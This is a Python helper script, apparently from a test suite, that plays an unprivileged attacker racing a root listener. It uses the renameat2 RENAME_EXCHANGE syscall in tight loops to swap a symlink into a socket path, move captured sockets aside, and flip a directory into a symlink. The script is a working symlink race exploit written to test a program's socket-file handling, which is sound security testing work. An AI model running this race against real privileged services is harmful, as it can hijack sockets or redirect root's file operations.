"""The attacker of __test__/socket-file.spec.ts, run as another user.

Races a root listener for the path of its socket file with renameat2's
RENAME_EXCHANGE, which swaps two names in one step, so the path is never
missing for long. Usage:

  path-attacker.py swap DIR NAME TARGET   puts a symlink to TARGET at DIR/NAME
                                          and moves any socket found there
                                          aside, to DIR/stolen-N
  path-attacker.py flip DIR SUB ELSEWHERE turns DIR/SUB from the directory into
                                          a symlink to ELSEWHERE and back

Prints one JSON line once it runs, then loops until killed.
"""
import ctypes
import json
import os
import platform
import stat
import sys

# renameat2 by number: musl's libc may lack the wrapper.
SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}[platform.machine()]
AT_FDCWD = -100
RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None, use_errno=True)


def exchange(a: str, b: str) -> bool:
    return libc.syscall(SYS_RENAMEAT2, AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) == 0


def swap(directory: str, name: str, target: str) -> None:
    path = os.path.join(directory, name)
    lure = os.path.join(directory, ".lure")
    stolen = 0
    while True:
        try:
            os.symlink(target, lure)
        except FileExistsError:
            pass
        if not exchange(lure, path):
            continue
        try:
            if stat.S_ISSOCK(os.lstat(lure).st_mode):
                os.rename(lure, os.path.join(directory, f"stolen-{stolen}"))
                stolen += 1
        except OSError:
            pass


def flip(directory: str, sub: str, elsewhere: str) -> None:
    path = os.path.join(directory, sub)
    link = os.path.join(directory, ".flip")
    os.symlink(elsewhere, link)
    while True:
        exchange(path, link)


def main() -> None:
    mode, directory, name, other = sys.argv[1:5]
    print(json.dumps({"attacking": True}), flush=True)
    {"swap": swap, "flip": flip}[mode](directory, name, other)


main()
